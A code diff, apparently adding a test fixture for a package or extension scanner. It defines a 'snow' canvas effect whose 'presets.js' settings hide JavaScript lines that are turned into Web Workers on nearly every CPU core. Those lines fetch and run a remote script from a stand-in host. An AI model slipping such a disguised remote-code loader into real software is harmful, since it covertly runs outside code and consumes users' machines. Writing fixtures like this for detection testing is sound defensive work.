@@ -92,4 +92,23 @@ exports.activate = () => commands.registerCommand('borders.draw', async () => {
 });
 `,
   }),
+  packaged('threads whose lines stand among the settings of a picture', {}, {
+    'snow.js': `const { presets } = require('./presets.js');
+class Physics {
+  constructor(lines, count) {
+    const url = URL.createObjectURL(new Blob([lines.join('\\n')], { type: 'text/javascript' }));
+    this.pool = Array.from({ length: count }, () => new Worker(url));
+  }
+}
+exports.mount = (canvas) => {
+  canvas.getContext('2d').fillRect(0, 0, 2, 2);
+  return new Physics(presets.physics, navigator.hardwareConcurrency - 1);
+};
+`,
+    'presets.js': `exports.presets = {
+  calm: { flakes: 120, speed: 0.6 },
+  physics: ["importScripts('https://cdn.frost-fx.example.invalid/engine.js');", 'onmessage = ({ data }) => new Engine(data).start();'],
+};
+`,
+  }),
 ];
